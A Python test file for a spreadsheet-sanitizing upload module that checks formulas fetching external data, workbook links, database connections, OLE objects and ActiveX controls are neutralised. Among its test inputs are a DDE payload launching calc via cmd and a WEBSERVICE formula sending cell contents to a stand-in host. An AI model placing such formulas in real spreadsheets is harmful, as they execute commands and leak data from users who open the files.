"""Workbooks of town halls: values, formulas and lists stay; what is fetched from elsewhere stays as it was last."""

import pytest
from openpyxl.comments import Comment

from ikz_award.domain.entries.alterations import AlterationKind as Kind
from tests.adapters.uploads.cleaning import clean, kinds, names, refusal
from tests.adapters.uploads.office.files import OFFICE, changed, parts_of, relations, values_of, workbook

SHEETS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = f'xmlns:r="{OFFICE}"'
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def relation(rid: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{rid}" Type="{OFFICE}/{kind}" Target="{target}"/>'


def linked(rid: str, kind: str, target: str) -> str:
    return f"{relation(rid, kind, target)}</Relationships>"


def typed(path: str, kind: str) -> str:
    return f'<Override PartName="{path}" ContentType="{SPREADSHEET}.{kind}+xml"/></Types>'


def test_hidden_sheets_and_comments_stay_and_are_pointed_out():
    def fill(book):
        book.create_sheet("Intern").sheet_state = "hidden"
        book.active["A1"].comment = Comment("Bitte prüfen", "Kim")

    file = clean(workbook(fill), "a.xlsx")
    assert kinds(file) == []
    assert file.notice.startswith("Die Datei enthält Kommentare, ausgeblendete Tabellenblätter.")


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(B1:B9)",
        'HYPERLINK("https://stadt.example/image(1)","WEBSERVICE(1)")',
        'IF(A1="a|b!c",1,2)',
        "'Call (x|y)'!A1",
        "Tabelle1[a|b]",
        "MYCALL(1)",
    ],
)
def test_a_formula_that_fetches_nothing_stays(formula):
    data = workbook(lambda book: book.active.__setitem__("D1", f"={formula}"))
    file = clean(data, "a.xlsx")
    assert kinds(file) == []
    assert values_of(file.data) == values_of(data)


@pytest.mark.parametrize(
    "formula", ['WEBSERVICE("http://x.invalid/"&amp;A1)', "_xlfn.IMAGE(A1)", "cmd|'/c calc'!A0", 'RTD("a",,"b")']
)
def test_a_formula_that_fetches_becomes_its_value(formula):
    chain = {
        "xl/calcChain.xml": f'<calcChain {SHEETS}><c r="C2" i="1"/></calcChain>',
        "xl/_rels/workbook.xml.rels": ("</Relationships>", linked("rId99", "calcChain", "calcChain.xml")),
        "[Content_Types].xml": ("</Types>", typed("/xl/calcChain.xml", "calcChain")),
        "xl/worksheets/sheet1.xml": ("<f>B2*2</f><v/>", f"<f>{formula}</f><v>4711</v>"),
    }  # fmt: skip
    file = clean(changed(workbook(), chain), "a.xlsx")
    assert kinds(file) == [Kind.FORMULAS]
    assert values_of(file.data)[1] == ["Produkt 2", 2000, 4711]
    assert values_of(file.data)[2] == ["Produkt 3", 3000, "=B3*2"]
    assert "xl/calcChain.xml" not in parts_of(file.data)


def test_shared_formulas_go_together():
    data = changed(
        workbook(),
        {"xl/worksheets/sheet1.xml": ("<f>B2*2</f><v/>", '<f t="shared" ref="C2:C3" si="0">WEBSERVICE(A1)</f><v>1</v>')},
    )
    data = changed(data, {"xl/worksheets/sheet1.xml": ("<f>B3*2</f><v/>", '<f t="shared" si="0"/><v>2</v>')})
    file = clean(data, "a.xlsx")
    assert [row[2] for row in values_of(file.data)[1:3]] == [1, 2]


def test_links_to_other_workbooks_keep_their_last_values():
    path = "externalLinks/externalLink1.xml"
    reference = f'<externalReferences><externalReference {RELATIONS} r:id="rId98"/></externalReferences>'
    link = f'<externalLink {SHEETS} {RELATIONS}><externalBook r:id="rId1"/></externalLink>'
    data = changed(
        workbook(),
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                [("rId1", "externalLinkPath", "file:///P:\\Kämmerei\\Haushalt%202025.xlsx", "External")]
            ),
            "xl/_rels/workbook.xml.rels": ("</Relationships>", linked("rId98", "externalLink", path)),
            "xl/workbook.xml": ("<definedNames", f"{reference}<definedNames"),
            "[Content_Types].xml": ("</Types>", typed("/xl/externalLinks/externalLink1.xml", "externalLink")),
            "xl/worksheets/sheet1.xml": ("<f>B2*2</f><v/>", "<f>[1]Tabelle1!A1</f><v>77</v>"),
        },
    )  # fmt: skip
    file = clean(data, "a.xlsx")
    assert (kinds(file), names(file)) == ([Kind.WORKBOOKS], ("Haushalt 2025.xlsx",))
    parts = parts_of(file.data)
    assert b"mmerei" not in b"".join(parts.values())
    assert b'updateLinks="never"' in parts["xl/workbook.xml"]
    assert b"<f>[1]Tabelle1!A1</f><v>77</v>" in parts["xl/worksheets/sheet1.xml"]
    values_of(file.data)


def test_connections_lead_nowhere_and_their_tables_stay():
    body = (
        f'<connections {SHEETS}><connection id="1" name="Kasse" odcFile="P:\\a.odc" refreshOnLoad="1">'
        '<dbPr connection="Server=kasse;Password=geheim" command="SELECT 1"/></connection>'
        '<connection id="2" name="Netz"><webPr url="http://x.invalid"/></connection></connections>'
    )
    mashup = (
        '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    )
    more = relation("rId91", "connections", "connections.xml") + relation("rId92", "customXml", "../customXml/item1.xml")
    data = changed(
        workbook(),
        {
            "xl/connections.xml": body,
            "customXml/item1.xml": mashup.encode("utf-16"),
            "xl/_rels/workbook.xml.rels": ("</Relationships>", f"{more}</Relationships>"),
        },
    )
    file = clean(data, "a.xlsx")
    assert (kinds(file), names(file)) == ([Kind.CONNECTIONS], ("Kasse", "Netz"))
    everything = b"".join(parts_of(file.data).values())
    for word in (b"geheim", b"SELECT", b"x.invalid", b"a.odc", b"DataMashup"):
        assert word not in everything
    assert values_of(file.data) == values_of(data)


def test_objects_and_controls_on_a_sheet_leave_no_empty_lists():
    objects = f'<oleObjects><oleObject {RELATIONS} progId="Word.Document.12" shapeId="1" r:id="rId1"/></oleObjects>'
    tail = f'{objects}<controls><control {RELATIONS} shapeId="2" r:id="rId2"/></controls></worksheet>'
    data = changed(
        workbook(),
        {
            "xl/worksheets/sheet1.xml": ("</worksheet>", tail),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                [("rId1", "oleObject", "../embeddings/oleObject1.bin", ""), ("rId2", "control", "../activeX/activeX1.xml", "")]
            ),
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf",
            "xl/activeX/activeX1.xml": "<a/>",
        },
    )
    file = clean(data, "a.xlsx")
    assert kinds(file) == [Kind.OBJECTS, Kind.CONTROLS]
    sheet = parts_of(file.data)["xl/worksheets/sheet1.xml"]
    assert (b"oleObject" in sheet, b"control" in sheet) == (False, False)
    assert values_of(file.data) == values_of(data)


def test_a_link_to_a_program_is_refused_by_its_name():
    link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    assert "anderen Programm (DDE oder OLE)" in refusal(changed(workbook(), {"xl/externalLinks/e1.xml": link}), "a.xlsx")
